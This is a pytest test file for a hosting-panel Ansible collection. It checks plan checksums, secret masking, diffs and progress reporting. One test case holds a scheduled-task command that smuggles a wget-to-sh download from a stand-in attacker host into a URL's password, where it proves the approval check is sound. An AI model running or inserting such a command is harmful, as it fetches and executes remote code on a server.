"""What a person gets to see of a run.

The plan, its checksum, the diff, and how far the work has come.
"""

from __future__ import annotations

import hashlib
from collections.abc import Mapping
from dataclasses import replace
from typing import Any
from unittest import mock

import pytest

from ansible_collections.hosting.panel.plugins.module_utils._bulk.actions import Action, Deletion
from ansible_collections.hosting.panel.plugins.module_utils._bulk.bulk_plan import make_bulk_plan
from ansible_collections.hosting.panel.plugins.module_utils._bulk.bulk_task import count_resources
from ansible_collections.hosting.panel.plugins.module_utils._bulk.encrypted_values import (
    EncryptedValues,
)
from ansible_collections.hosting.panel.plugins.module_utils._kinds.registry import KINDS
from ansible_collections.hosting.panel.plugins.module_utils._operation.operation import (
    report_progress,
)
from ansible_collections.hosting.panel.plugins.module_utils._plan.object_plan import (
    CREATE,
    DELETE,
    UPDATE,
    ObjectPlan,
)
from ansible_collections.hosting.panel.plugins.module_utils._schema.desired_object import (
    DesiredObject,
)
from tests.support.memory import MemoryPanel
from tests.support.tasks import run_items
from tests.support.transcript import SimulatedTime

SECRET = "s3cret-of-a-customer"


def make_action(
    kind: str,
    key: str,
    effect: str,
    before: Any,
    after: Any,
    identifier: int | None = None,
    **more: Any,
) -> Action:
    """Return an action with what it shows of the object."""
    change = (
        Deletion(()) if effect == DELETE else ObjectPlan(KINDS[kind], DesiredObject(), key, effect)
    )
    displayed = {"client": None, "before": before, "after": after, **more}
    return Action(kind, key, change, displayed, identifier=identifier)


def make_deletion(number: int, ids: list[int]) -> Action:
    """Return the deletion of a domain and of two mailboxes."""
    cascade = {"also_deleted": {"emails": ["a@x", "b@x"]}, "also_deleted_ids": {"emails": ids}}
    return make_action(
        "domains", "old.example", DELETE, {"domain": "old.example"}, {}, number, **cascade
    )


CREATED = make_action("clients", "acme", CREATE, {}, {"username": "acme", "notes": "x"})
UPDATED = make_action("emails", "info@acme.example", UPDATE, {"max_size": 1}, {"max_size": 2}, 7)
DELETED = make_deletion(5, [2, 1])


# The plan and its checksum


def compute_checksum(*actions: Action, unchanged: int = 0) -> str:
    """Return the checksum of the plan that has some actions."""
    return make_bulk_plan(actions, unchanged).checksum


def test_a_checksum_does_not_depend_on_what_is_right_already_nor_on_the_order_of_members() -> None:
    reordered = make_action("clients", "acme", CREATE, {}, {"notes": "x", "username": "acme"})
    assert compute_checksum(CREATED, unchanged=3) == compute_checksum(reordered)


@pytest.mark.parametrize("other_deletion", [make_deletion(6, [2, 1]), make_deletion(5, [2, 3])])
def test_what_goes_is_told_by_its_ids_so_the_same_names_do_not_make_the_same_checksum(
    other_deletion: Action,
) -> None:
    assert (
        compute_checksum(make_deletion(5, [2, 1]))
        == compute_checksum(DELETED)
        != compute_checksum(other_deletion)
    )


def test_what_changes_is_told_by_its_id_too() -> None:
    assert compute_checksum(replace(UPDATED, identifier=8)) != compute_checksum(UPDATED)


@pytest.mark.parametrize(
    "other_action",
    [
        pytest.param(
            make_action("clients", "acme", CREATE, {}, {"username": "acme", "notes": "y"}),
            id="value",
        ),
        pytest.param(
            make_action("clients", "acme2", CREATE, {}, {"username": "acme", "notes": "x"}),
            id="key",
        ),
        pytest.param(
            make_action("clients", "acme", UPDATE, {}, {"username": "acme", "notes": "x"}),
            id="effect",
        ),
        pytest.param(
            make_action("admins", "acme", CREATE, {}, {"username": "acme", "notes": "x"}), id="kind"
        ),
        pytest.param(
            make_action(
                "clients", "acme", CREATE, {"notes": ""}, {"username": "acme", "notes": "x"}
            ),
            id="value before",
        ),
        pytest.param(
            make_action(
                "clients",
                "acme",
                CREATE,
                {},
                {"username": "acme", "notes": "x"},
                also_deleted={"emails": ["a"]},
            ),
            id="cascade",
        ),
    ],
)
def test_a_checksum_changes_with_everything_that_an_action_does(other_action: Any) -> None:
    assert compute_checksum(other_action) != compute_checksum(CREATED)


# The checksum of a run


def make_objects() -> dict[str, list[dict[str, Any]]]:
    """Return the answers of a panel with two clients."""
    return {
        "/clients": [
            {"id": 1, "username": "acme", "notes": ""},
            {"id": 2, "username": "globex", "notes": ""},
        ]
    }


WANTED = {"clients": [{"username": "acme", "notes": "x"}, {"username": "globex", "notes": ""}]}


def run(
    panel: MemoryPanel,
    check_mode: bool = False,
    resources: Mapping[str, Any] = WANTED,
    **options: Any,
) -> dict[str, Any]:
    """Run the items on a panel."""
    return run_items(panel, resources, check_mode, **options)


@pytest.mark.parametrize("check_mode", [True, False])
def test_another_plan_than_the_approved_one_writes_nothing_and_is_shown(check_mode: bool) -> None:
    approved = run(MemoryPanel(make_objects()), check_mode=True)["plan"]["checksum"]
    moved = make_objects()
    moved["/clients"][1]["notes"] = "somebody else"
    panel = MemoryPanel(moved)

    result = run(panel, check_mode, expected_checksum=approved)

    assert result["failed"] is True
    assert result["changed"] is False
    assert panel.writes == []

    checksum_now = result["plan"]["checksum"]
    assert result["error"] == {
        "type": "PlanChanged",
        "expected": approved,
        "checksum": checksum_now,
    }
    assert result["msg"] == (
        "expected_checksum: the plan has changed since it was approved (now 0 to create, 2 to update, 0 to delete, 0 unchanged). "
        "Nothing was written. Make and approve a new plan."
    )
    assert [action["key"] for action in result["plan"]["actions"]] == ["acme", "globex"]
    assert run(panel, check_mode, expected_checksum=checksum_now)["changed"] is True


def test_an_approved_plan_that_was_carried_out_has_nothing_left_to_do() -> None:
    approved = run(MemoryPanel(make_objects()), check_mode=True)["plan"]["checksum"]
    panel = MemoryPanel(make_objects())
    run(panel, expected_checksum=approved)
    panel.forget()

    second_run = run(panel, expected_checksum=approved)

    assert second_run["error"]["type"] == "PlanChanged"
    assert second_run["msg"].startswith("expected_checksum: there is nothing left to do")
    assert second_run["msg"].endswith("Nothing was written.")
    assert panel.writes == []


def test_an_object_that_a_new_one_refers_to_is_told_by_its_id_too() -> None:
    requested = {"databases": [{"database_name": "shop", "client": "acme"}]}
    plans = [
        run(
            MemoryPanel({"/clients": [{"id": number, "username": "acme"}]}),
            check_mode=True,
            resources=requested,
        )["plan"]
        for number in (2, 3, 2)
    ]

    assert plans[0]["actions"] == plans[1]["actions"]
    assert plans[0]["checksum"] == plans[2]["checksum"] != plans[1]["checksum"]


def test_an_empty_checksum_approves_nothing() -> None:
    panel = MemoryPanel(make_objects())
    result = run(panel, expected_checksum="")

    assert result["msg"] == (
        "expected_checksum: is empty, which would approve every plan; omit it where none is expected. Nothing was written."
    )
    assert panel.calls == []


@pytest.mark.parametrize("option", ["expected_checksum", "max_deletes"])
def test_a_guard_that_a_template_left_without_a_value_is_refused_and_not_left_out(
    option: str,
) -> None:
    panel = MemoryPanel(make_objects())
    result = run(panel, **{option: None})

    assert result["msg"].startswith(f"{option}: is null, which would ")
    assert result["msg"].endswith("omit it if you want this, in a template with default(omit).")
    assert panel.calls == []


def test_a_plan_has_no_secret_and_its_checksum_does_not_tell_one() -> None:
    requested = {
        "clients": [
            {"username": "new", "password": SECRET, "extra": {"token": SECRET, "colour": "blue"}}
        ]
    }
    other_secrets = {
        "clients": [
            {
                "username": "new",
                "password": "another-one",
                "extra": {"token": "t", "colour": "blue"},
            }
        ]
    }
    first, second = (
        run(MemoryPanel(make_objects()), check_mode=True, resources=resources)
        for resources in (requested, other_secrets)
    )

    assert SECRET not in str(first)
    assert first["plan"]["actions"][0]["after"] == {
        "username": "new",
        "colour": "blue",
        "password": "(new)",
        "token": "(new)",
    }
    assert first["plan"]["checksum"] == second["plan"]["checksum"]


BEGIN_KEY = "-----BEGIN PRIVATE KEY-----"
BACKUP = {"client": "acme", "description": "nightly", "type": "exec"}


def make_backup(command: str) -> Mapping[str, Any]:
    """Return the items of a scheduled task with a command."""
    return {"scheduled_tasks": [{**BACKUP, "command": command}]}


def make_site(**domain: Any) -> Mapping[str, Any]:
    """Return the items of a domain with some options."""
    return {"domains": [{"domain": "acme.example", **domain}]}


def make_client(**options: Any) -> Mapping[str, Any]:
    """Return the items of a client with some options."""
    return {"clients": [{"username": "acme", **options}]}


def make_sites() -> dict[str, list[dict[str, Any]]]:
    """Return the answers of a panel with a client and a domain."""
    return {
        "/clients": [{"id": 1, "username": "acme", "notes": "", "colours": {}}],
        "/domains": [{"id": 2, "domain": "acme.example", "id_user": 1}],
        "/scheduled-tasks": [],
    }


@pytest.mark.parametrize(
    ("first", "second"),
    [
        pytest.param(
            make_backup("curl https://u:passaaaa1@x.example/cron"),
            make_backup("curl https://u:$(wget${IFS}-qO-${IFS}evil.example|sh)@x.example/cron"),
            id="code in place of a password in an address",
        ),
        pytest.param(
            make_backup(f"x {BEGIN_KEY}\nMIIEvQIBADANBgkqhkiG9w0B\n"),
            make_backup(f"x {BEGIN_KEY}\nMIIEvQIBADANBgkqhkiG9w0C\n"),
            id="a key without an end in a command",
        ),
        pytest.param(
            make_site(apache={"http_directives": f"# {BEGIN_KEY}\nServerSignature Off"}),
            make_site(apache={"http_directives": f"# {BEGIN_KEY}\nInclude /home/acme/x"}),
            id="directives behind a key without an end",
        ),
        pytest.param(
            make_site(target={"target": "https://u:one@x.example"}),
            make_site(target={"target": "https://u:two@x.example"}),
            id="the login of a target",
        ),
        pytest.param(
            make_client(notes="$6$salt$abcdefghij"),
            make_client(notes="$6$salt$abcdefghik"),
            id="a hash",
        ),
        pytest.param(
            make_client(extra={"colours": {"of": ["https://u:one@x.example"]}}),
            make_client(extra={"colours": {"of": ["https://u:two@x.example"]}}),
            id="a text within a field of extra",
        ),
        pytest.param(
            make_client(password=SECRET, update_password="always"),
            make_client(regenerate_password=True),
            id="a password that is set or generated",
        ),
    ],
)
def test_a_plan_that_writes_something_else_is_not_approved_though_masks_hide_the_difference(
    first: Mapping[str, Any], second: Mapping[str, Any]
) -> None:
    approved = run(MemoryPanel(make_sites()), True, first)["plan"]["checksum"]
    panel = MemoryPanel(make_sites())

    result = run(panel, resources=second, expected_checksum=approved)

    assert result["error"]["type"] == "PlanChanged"
    assert panel.writes == []
    assert (
        run(MemoryPanel(make_sites()), resources=first, expected_checksum=approved)["changed"]
        is True
    )


def test_a_password_that_the_panel_generates_is_shown_as_such() -> None:
    (action,) = run(MemoryPanel(make_sites()), True, make_client(regenerate_password=True))["plan"][
        "actions"
    ]
    assert action["after"] == {"password": "(generated)"}


@pytest.mark.parametrize(("option", "slow"), [("notes", 1), ("email", 0)])
def test_what_a_file_has_encrypted_cannot_be_guessed_from_the_checksum(
    option: str, slow: int
) -> None:
    """Compares two plans that differ in the notes of a client."""
    encrypted = EncryptedValues()
    encrypted.places["clients", "acme"] = {(option,)}
    fields = {"username": "acme", "notes": "y"}

    other_action = make_action("clients", "acme", CREATE, {}, fields)

    with mock.patch("hashlib.pbkdf2_hmac", wraps=hashlib.pbkdf2_hmac) as digest:
        first = make_bulk_plan([CREATED], 0, encrypted)
        second = make_bulk_plan([other_action], 0, encrypted)

    assert digest.call_count == 2 * slow
    assert first.checksum != second.checksum

    is_fast = first.checksum == compute_checksum(CREATED)
    assert is_fast is (slow == 0)


@pytest.mark.parametrize(
    ("body", "slow"),
    [
        ({"notes": "x"}, 0),
        ({"notes": "https://u:p@x.example", "list": ["https://u:p@x.example"]}, 1),
    ],
    ids=str,
)
def test_only_texts_that_masks_hide_cost_the_time_in_which_nobody_guesses_them(
    body: Mapping[str, Any], slow: int
) -> None:
    planned = replace(
        CREATED, change=ObjectPlan(KINDS["clients"], DesiredObject(), "acme", CREATE, body=body)
    )
    with mock.patch("hashlib.pbkdf2_hmac", wraps=hashlib.pbkdf2_hmac) as digest:
        assert (compute_checksum(planned) == compute_checksum(CREATED)) is (slow == 0)

    rounds = [call.args[3] for call in digest.call_args_list]

    assert len(rounds) == slow
    assert all(number >= 600_000 for number in rounds)


# The diff


def test_the_diff_of_a_run_is_its_plan_in_lines_and_empty_where_nothing_is_to_do() -> None:
    lines = '0 to create, 1 to update, 0 to delete, 1 unchanged\nacme:\n  update  client acme  notes "" -> x\n'
    assert run(MemoryPanel(make_objects()))["diff"] == {"prepared": lines}
    assert run(MemoryPanel(make_objects()), check_mode=True)["diff"] == {"prepared": lines}
    assert run(MemoryPanel(make_objects()), resources={"clients": [{"username": "acme"}]})[
        "diff"
    ] == {"prepared": ""}


# What is shown of the task


@pytest.mark.parametrize(
    ("resources", "expected"),
    [
        pytest.param(
            {"clients": [1, 2], "plans": None, "emails": {"a": SECRET}, 5: []},
            {"clients": "2 items", "plans": "(no list)"},
            id="lists and others",
        ),
        pytest.param('{"clients": [1]}', {"clients": "1 item"}, id="JSON"),
        pytest.param(SECRET, "(no dictionary)", id="text"),
        pytest.param([SECRET], "(no dictionary)", id="list"),
        pytest.param(f'["{SECRET}"]', "(no dictionary)", id="JSON list"),
    ],
)
def test_whatever_stands_in_the_place_of_resources_is_not_shown(
    resources: Any, expected: Any
) -> None:
    counts = count_resources(resources)
    assert SECRET not in str(counts)

    if isinstance(expected, dict):
        assert expected.items() <= counts.items()
    else:
        assert counts == expected


# Progress


def test_progress_is_told_at_most_once_in_five_seconds() -> None:
    time = SimulatedTime()
    lines = []
    work = (time.sleep(0.5) for _change in range(40))
    with mock.patch("time.monotonic", time.get_time):
        assert len(list(report_progress(work, "changes written", 40, lines.append))) == 40

    assert lines == [f"{n} of 40 changes written" for n in (10, 20, 30, 40)]
